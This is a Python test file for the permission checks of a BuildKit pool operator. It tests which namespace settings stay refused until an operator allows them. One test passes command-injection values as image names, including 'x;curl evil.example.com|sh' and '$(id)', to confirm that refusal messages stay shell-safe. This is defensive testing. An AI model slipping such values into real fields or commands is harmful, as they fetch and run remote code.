"""What the author of a pool in one namespace may ask for, and what only the operator allows."""

import pytest

from bkpool.core.allowances import (
    Allowances,
    Allowed,
    host_refusals,
    may_name_a_service,
    messages,
    parse_host,
    parse_image,
    permitted,
    read_allowances,
    refusals,
    sentence,
)
from bkpool.core.errors import InvalidInput
from bkpool.core.names import ANNOTATION_ISOLATION
from bkpool.core.pool import Pool

NOTHING = Allowances()
API = "buildkit-controller.buildkit-system.svc"


def pool(annotations=None, **spec):
    metadata = {"name": "p", "namespace": "team", "annotations": annotations or {}}
    return Pool.model_validate({"metadata": metadata, "spec": spec})


def named(hostname, **external):
    return pool(networking={"external": {"hostname": hostname, **external}})


ASKS = {
    "--allow-privileged team": pool({ANNOTATION_ISOLATION: "privileged"}),
    "--allow-image team=registry.example.com/b:1": pool(buildkitImage="registry.example.com/b:1"),
    "--allow-image team=registry.example.com/g:1": pool(gatewayImage="registry.example.com/g:1"),
    "--allow-load-balancer team": pool(networking={"serviceType": "LoadBalancer"}),
    "--allow-service-annotations team": pool(networking={"external": {"annotations": {"a": "b"}}}),
}


@pytest.mark.parametrize("option", ASKS)
def test_what_reaches_beyond_a_namespace_is_refused_until_the_operator_allows_it(option):
    (refused,) = refusals(ASKS[option], NOTHING)
    assert refused.option == option
    assert refused.message.startswith(refused.field)
    name, value = option.split()
    fields = {
        "--allow-privileged": "privileged",
        "--allow-image": "images",
        "--allow-load-balancer": "load_balancers",
        "--allow-service-annotations": "service_annotations",
    }
    assert refusals(ASKS[option], read_allowances(**{fields[name]: [value]})) == ()
    elsewhere = value.replace("team", "other")
    assert refusals(ASKS[option], read_allowances(**{fields[name]: [elsewhere]})) == (refused,)


def test_an_ordinary_pool_asks_for_nothing():
    for asked in (pool(), pool({ANNOTATION_ISOLATION: "baseline"}), pool(gateway={"serviceType": "NodePort"})):
        assert refusals(asked, NOTHING) == host_refusals(asked, NOTHING) == ()
        assert permitted(asked, NOTHING) == asked


@pytest.mark.parametrize(
    "host",
    [API, API.upper(), "buildkit-controller.buildkit-system.svc.cluster.local", "other.team.svc", "p.other", "a.b.c"],
)
def test_the_name_of_another_is_refused(host):
    (refused,) = host_refusals(named(host), NOTHING)
    assert refused.field == "spec.networking.external.hostname"
    assert permitted(named(host), NOTHING).spec.networking.external.hostname is None


@pytest.mark.parametrize("host", ["p", "p.team", "p.team.svc", "P.team.SVC.cluster.local"])
def test_the_names_of_its_own_service_need_no_permission(host):
    assert host_refusals(named(host), NOTHING) == ()


def test_a_host_is_allowed_in_one_namespace_only():
    asked = named("Build.example.com")
    assert host_refusals(asked, read_allowances(hosts=["team=build.example.com"])) == ()
    (refused,) = host_refusals(asked, read_allowances(hosts=["other=build.example.com"]))
    assert refused.option == "--allow-host team=build.example.com"
    assert host_refusals(named("build.example.com", enabled=False), NOTHING) == ()


def test_no_option_allows_the_name_of_a_service():
    (refused,) = host_refusals(named(API), NOTHING)
    assert "--allow-host" not in refused.message
    with pytest.raises(InvalidInput, match="name of a Service"):
        read_allowances(hosts=[f"team={API}"])


def test_the_images_of_bkpool_may_be_named_with_and_without_their_registry():
    own = Allowances(own_images=frozenset({"docker.io/moby/buildkit:v1"}))
    for image in ("docker.io/moby/buildkit:v1", "moby/buildkit:v1"):
        assert refusals(pool(buildkitImage=image), own) == ()
    assert refusals(pool(buildkitImage="evil.example.com/moby/buildkit:v1"), own)


def test_the_image_of_the_older_controller_is_never_used_and_so_not_refused():
    assert refusals(pool(gatewayImage="ghcr.io/x/buildkit-controller/gateway:1"), NOTHING) == ()


def test_an_operator_can_copy_the_option_into_a_shell():
    for image in ("x;curl evil.example.com|sh", "$(id)", "*", "a b"):
        (refused,) = refusals(pool(buildkitImage=image), NOTHING)
        assert refused.option == "--allow-image team=PATTERN"


def test_only_the_service_type_that_counts_is_looked_at():
    networking = {"serviceType": "LoadBalancer"}
    assert refusals(pool(networking=networking, gateway={"serviceType": "ClusterIP"}), NOTHING) == ()
    both = pool(networking=networking, gateway={"serviceType": "LoadBalancer"})
    (refused,) = refusals(both, NOTHING)
    assert refused.field == "spec.gateway.serviceType"
    spec = permitted(both, NOTHING).spec
    assert (spec.gateway.service_type, spec.networking.service_type) == (None, None)


def test_all_refusals_fit_into_one_sentence():
    text = sentence(refusals(pool({ANNOTATION_ISOLATION: "privileged"}, buildkitImage="x:1"), NOTHING))
    assert "--allow-privileged team; spec.buildkitImage: the image 'x:1' is not allowed" in text


@pytest.mark.parametrize("text", ["team", "team=", "=b.example.com", "Team=b", "team=b c", "team=a/b"])
def test_a_wrong_host_is_refused_with_its_option(text):
    with pytest.raises(InvalidInput, match="--allow-host"):
        read_allowances(hosts=[text])


def test_entries_are_read_and_written_alike():
    assert parse_host("team=B.Example.com") == Allowed("team", "b.example.com")
    assert str(parse_image("team=registry.example.com:5000/*")) == "team=registry.example.com:5000/*"
    with pytest.raises(ValueError, match="pattern"):
        parse_image("team='x'")


def test_short_names_may_be_those_of_a_service():
    assert [may_name_a_service(host) for host in ("a", "a.b", "a.b.svc", "a.b.c")] == [True, True, True, False]


def test_the_conditions_name_what_is_not_allowed_where_somebody_reads_it():
    asked = pool({ANNOTATION_ISOLATION: "privileged"}, networking={"external": {"hostname": "build.example.com"}})
    host, rest = messages(asked, NOTHING, own_gateway=True)
    assert "--allow-host team=build.example.com" in host
    assert "--allow-privileged team" in rest
    assert messages(asked, NOTHING, own_gateway=False) == (None, rest), "the gateway on the host reads no hostname"
    assert messages(asked, None, own_gateway=False) == (None, None), "on kind everything is allowed"
    assert messages(pool(), NOTHING, own_gateway=True) == ("", "")
